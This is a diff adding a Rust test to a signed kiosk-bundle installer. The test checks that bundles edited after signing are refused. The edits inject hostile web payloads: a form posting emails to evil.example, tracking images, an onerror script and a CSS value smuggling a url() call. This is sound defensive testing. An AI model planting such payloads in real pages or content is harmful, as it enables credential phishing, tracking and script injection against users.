@@ -380,3 +380,51 @@ fn an_untrusted_signer_is_refused_before_the_bundle_is_opened() {
     drop(std::fs::File::open(&fifo).unwrap());
     writer.join().unwrap();
 }
+
+/// Issue #15 item 11: a bundle made or edited by another tool and then signed
+/// by a trusted key cannot make the kiosk render what its own build never
+/// would: HTML its sanitiser changes, or a theme value that is not a colour.
+#[test]
+fn a_signed_bundle_with_html_or_theme_the_kiosk_would_not_make_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let k = key();
+    let store = installed_v10(dir.path(), &k);
+    let section: String = {
+        let b = build(dir.path(), "probe.kbundle", 11, "stable");
+        let conn = rusqlite::Connection::open(&b).unwrap();
+        conn.query_row("SELECT section_id FROM section_texts ORDER BY section_id LIMIT 1", [], |r| r.get(0)).unwrap()
+    };
+    let edits = [
+        ("<style>", format!("UPDATE section_texts SET html = html || '<style>body{{display:none}}</style>' WHERE section_id = '{section}'")),
+        ("<form>", format!("UPDATE section_texts SET html = '<form action=\"https://evil.example/\"><input name=\"email\"></form>' || html WHERE section_id = '{section}'")),
+        ("<img>", format!("UPDATE section_texts SET html = html || '<img src=\"https://evil.example/t.png\">' WHERE section_id = '{section}'")),
+        (
+            "an event's <img>",
+            "UPDATE event_texts SET description_html = '<img src=x onerror=\"alert(1)\">' WHERE event_id = (SELECT min(event_id) FROM event_texts)".to_string(),
+        ),
+        ("theme CSS", "UPDATE settings SET value = json_set(value, '$.primary', 'red;background:url(https://evil.example/x)') WHERE key = 'theme'".to_string()),
+    ];
+    for (i, (what, sql)) in edits.iter().enumerate() {
+        let b = build(dir.path(), &format!("edited{i}.kbundle"), 11, "stable");
+        let conn = rusqlite::Connection::open(&b).unwrap();
+        assert!(conn.execute(sql, []).unwrap() >= 1, "{what}: the edit changed a row");
+        drop(conn);
+        sign_as(&k, &b, 11, "stable"); // signed after the edit: the signature is good
+        let r = assert_refused(&store, &b, &policy(&k), "unsafe_content");
+        let says = r.to_string();
+        if what.starts_with('<') {
+            assert!(says.contains(&format!("section `{section}`")), "{what}: the refusal names the section: {says}");
+        } else if what.starts_with("theme") {
+            assert!(says.contains("theme.primary"), "{what}: the refusal names the theme value: {says}");
+        } else {
+            assert!(says.contains("event `"), "{what}: the refusal names the event: {says}");
+        }
+    }
+    // The same bundle as the kiosk's build makes it is accepted.
+    let b = build(dir.path(), "clean.kbundle", 11, "stable");
+    sign_as(&k, &b, 11, "stable");
+    let Outcome::Installed(i) = store.install(&b, &policy(&k), 0, "test").unwrap() else {
+        panic!("a bundle as kioskctl builds it must be accepted")
+    };
+    assert_eq!(i.version, 11);
+}
